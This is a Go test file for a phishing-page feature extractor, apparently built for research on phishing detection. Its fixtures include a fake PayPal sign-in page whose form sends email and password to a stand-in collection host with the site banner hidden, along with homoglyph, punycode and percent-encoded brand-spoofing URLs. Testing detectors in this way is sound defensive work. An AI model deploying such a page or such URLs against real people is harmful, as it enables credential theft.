package features

import (
	"testing"
	"testing/quick"
	"time"

	"freephish/internal/fwb"
	"freephish/internal/webgen"
)

var at = time.Date(2022, 11, 1, 0, 0, 0, 0, time.UTC)

const phishHTML = `<!DOCTYPE html>
<html><head>
<title>PayPal - Sign In</title>
<meta name="robots" content="noindex, nofollow">
</head><body>
<div class="weebly-footer" id="weebly-banner" style="visibility:hidden">Powered by Weebly</div>
<form method="post" action="https://evil-collect.xyz/gate">
<input type="email" name="email">
<input type="password" name="password">
<button type="submit">Sign In</button>
</form>
<a href="#">skip</a>
<a href="/help">help</a>
<a href="https://other.example.org/x">terms</a>
<iframe src="https://frame.example.net/f"></iframe>
<script>var x=1;</script>
<img src="logo.png">
</body></html>`

func TestExtractPhishingPage(t *testing.T) {
	m, err := Extract(Page{URL: "https://paypal-verify-3.weebly.com/login", HTML: phishHTML})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]float64{
		FBrandInURL:       1,
		FHasLoginForm:     1,
		FPasswordFields:   1,
		FNumIFrames:       1,
		FHiddenElements:   1,
		FNumScripts:       1,
		FNumImages:        1,
		FExternalAction:   1,
		FTitleBrand:       1,
		FObfuscatedBanner: 1,
		FNoindex:          1,
		FEmptyLinks:       1,
		FInternalLinks:    1,
		FExternalLinks:    1,
		FHasHTTPS:         1,
		FIPHost:           0,
		FCheapTLD:         0,
		FMultipleTLDs:     0,
	}
	for k, v := range want {
		if m[k] != v {
			t.Errorf("%s = %v, want %v", k, m[k], v)
		}
	}
	if m[FSensitiveWords] < 2 { // "verify", "login"
		t.Errorf("sensitive words = %v, want >= 2", m[FSensitiveWords])
	}
	if m[FURLLength] != float64(len("https://paypal-verify-3.weebly.com/login")) {
		t.Errorf("url length = %v", m[FURLLength])
	}
}

const benignHTML = `<!DOCTYPE html>
<html><head><title>Rosewood Bakery</title></head>
<body>
<div class="weebly-footer" id="weebly-banner">Powered by Weebly</div>
<a href="/menu">menu</a><a href="/about">about</a>
<p>Fresh bread daily since 2009.</p>
</body></html>`

func TestExtractBenignPage(t *testing.T) {
	m, err := Extract(Page{URL: "https://rosewood-bakery.weebly.com/", HTML: benignHTML})
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{FHasLoginForm, FPasswordFields, FObfuscatedBanner, FNoindex, FBrandInURL, FTitleBrand, FNumIFrames, FExternalAction} {
		if m[k] != 0 {
			t.Errorf("%s = %v, want 0 on benign page", k, m[k])
		}
	}
	if m[FInternalLinks] != 2 {
		t.Errorf("internal links = %v, want 2", m[FInternalLinks])
	}
}

func TestVisibleBannerIsNotObfuscated(t *testing.T) {
	// The banner div is present but NOT hidden — the feature must stay 0.
	m, err := Extract(Page{URL: "https://x.weebly.com/", HTML: benignHTML})
	if err != nil {
		t.Fatal(err)
	}
	if m[FObfuscatedBanner] != 0 {
		t.Fatal("visible banner flagged as obfuscated")
	}
}

func TestHiddenNonBannerNotObfuscatedBanner(t *testing.T) {
	html := `<html><body><div class="popup" style="display:none">promo</div></body></html>`
	m, err := Extract(Page{URL: "https://x.weebly.com/", HTML: html})
	if err != nil {
		t.Fatal(err)
	}
	if m[FObfuscatedBanner] != 0 {
		t.Fatal("hidden non-banner element flagged as obfuscated banner")
	}
	if m[FHiddenElements] != 1 {
		t.Fatalf("hidden elements = %v, want 1", m[FHiddenElements])
	}
}

func TestMultipleTLDsFeature(t *testing.T) {
	m, err := Extract(Page{URL: "https://paypal.com.secure-login.xyz/x", HTML: "<html></html>"})
	if err != nil {
		t.Fatal(err)
	}
	if m[FMultipleTLDs] != 1 {
		t.Fatal("com-in-subdomain not detected")
	}
	if m[FCheapTLD] != 1 {
		t.Fatal("xyz not flagged cheap")
	}
}

func TestVectorProjection(t *testing.T) {
	var x Values
	x[idURLLength], x[idNoindex] = 42, 1
	v := x.Vector(Columns([]string{FURLLength, FNoindex, FIPHost, "not-a-feature"}))
	if len(v) != 4 || v[0] != 42 || v[1] != 1 || v[2] != 0 || v[3] != 0 {
		t.Fatalf("vector = %v", v)
	}
}

func TestNameSetsConsistent(t *testing.T) {
	if len(BaseStackNames) != 20 {
		t.Fatalf("base set = %d features, want 20 (8 URL + 12 HTML)", len(BaseStackNames))
	}
	if len(FreePhishNames) != 22 {
		t.Fatalf("freephish set = %d features, want 22", len(FreePhishNames))
	}
	inFree := map[string]bool{}
	for _, n := range FreePhishNames {
		inFree[n] = true
	}
	// The two inapplicable features are dropped; the two FWB ones added.
	if inFree[FHasHTTPS] || inFree[FMultipleTLDs] {
		t.Fatal("FreePhish set must drop https/multi-TLD (Section 4.2)")
	}
	if !inFree[FObfuscatedBanner] || !inFree[FNoindex] {
		t.Fatal("FreePhish set must add the FWB features")
	}
}

func TestExtractOnGeneratedSites(t *testing.T) {
	g := webgen.NewGenerator(5, nil, nil)
	svc, _ := fwb.ByKey("weebly")
	nObf, nNoidx, nLogin := 0, 0, 0
	const n = 200
	for i := 0; i < n; i++ {
		site := g.PhishingFWBSiteOf(svc, fwb.KindPhishing, at)
		m, err := Extract(Page{URL: site.URL, HTML: site.HTML})
		if err != nil {
			t.Fatal(err)
		}
		if m[FObfuscatedBanner] == 1 {
			nObf++
		}
		if m[FNoindex] == 1 {
			nNoidx++
		}
		if m[FHasLoginForm] == 1 {
			nLogin++
		}
	}
	if nLogin != n {
		t.Errorf("login form detected on %d/%d credential-phishing pages", nLogin, n)
	}
	if f := float64(nObf) / n; f < webgen.BannerObfuscationRate-0.1 || f > webgen.BannerObfuscationRate+0.1 {
		t.Errorf("obfuscated banner rate = %.2f, want ≈%.2f", f, webgen.BannerObfuscationRate)
	}
	if f := float64(nNoidx) / n; f < webgen.NoindexRate-0.1 || f > webgen.NoindexRate+0.1 {
		t.Errorf("noindex rate = %.2f, want ≈%.2f", f, webgen.NoindexRate)
	}
}

func TestExtractBadURL(t *testing.T) {
	if _, err := Extract(Page{URL: "http://bad url with space", HTML: ""}); err == nil {
		t.Fatal("bad URL must error")
	}
}

// Property: extraction never panics on arbitrary HTML and always returns
// every named feature with a finite value.
func TestPropertyExtractTotal(t *testing.T) {
	f := func(html string) bool {
		if len(html) > 400 {
			html = html[:400]
		}
		m, err := Extract(Page{URL: "https://site-1.weebly.com/", HTML: html})
		if err != nil {
			return false
		}
		for _, n := range FreePhishNames {
			v, ok := m[n]
			if !ok || v != v /* NaN check */ || v < 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkExtract(b *testing.B) {
	g := webgen.NewGenerator(5, nil, nil)
	svc, _ := fwb.ByKey("weebly")
	site := g.PhishingFWBSiteOf(svc, fwb.KindPhishing, at)
	p := Page{URL: site.URL, HTML: site.HTML}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Extract(p); err != nil {
			b.Fatal(err)
		}
	}
}

func TestObfuscationFeaturesAndNormalizedBrandMatch(t *testing.T) {
	// Percent-encoded brand: the plain scan misses "paypal", the
	// normalized scan catches it, and the obfuscation itself is flagged.
	m, err := Extract(Page{URL: "https://x.evil-site.xyz/p%61ypal/login", HTML: "<html></html>"})
	if err != nil {
		t.Fatal(err)
	}
	if m[FBrandInURL] != 1 {
		t.Error("percent-encoded brand not matched after normalization")
	}
	if m[FPercentEncoded] != 1 {
		t.Error("percent-encoded letters not flagged")
	}

	// Homoglyph brand in host (Cyrillic а).
	m, err = Extract(Page{URL: "https://pаypal-secure.example.xyz/login", HTML: "<html></html>"})
	if err != nil {
		t.Fatal(err)
	}
	if m[FHomoglyphs] != 1 {
		t.Error("homoglyphs not flagged")
	}
	if m[FBrandInURL] != 1 {
		t.Error("homoglyph brand not matched after folding")
	}

	// Punycode host.
	m, err = Extract(Page{URL: "https://xn--pypal-4ve.com/login", HTML: "<html></html>"})
	if err != nil {
		t.Fatal(err)
	}
	if m[FPunycodeHost] != 1 {
		t.Error("punycode host not flagged")
	}

	// Clean URL: none of the obfuscation features fire.
	m, err = Extract(Page{URL: "https://rose-bakery.weebly.com/", HTML: "<html></html>"})
	if err != nil {
		t.Fatal(err)
	}
	if m[FPercentEncoded] != 0 || m[FPunycodeHost] != 0 || m[FHomoglyphs] != 0 {
		t.Errorf("clean URL flagged: %v %v %v", m[FPercentEncoded], m[FPunycodeHost], m[FHomoglyphs])
	}
}

func TestExtendedNamesSuperset(t *testing.T) {
	if len(ExtendedNames) != len(FreePhishNames)+3 {
		t.Fatalf("extended = %d features, want FreePhish+3", len(ExtendedNames))
	}
	inExt := map[string]bool{}
	for _, n := range ExtendedNames {
		inExt[n] = true
	}
	for _, n := range FreePhishNames {
		if !inExt[n] {
			t.Fatalf("extended set missing %q", n)
		}
	}
}
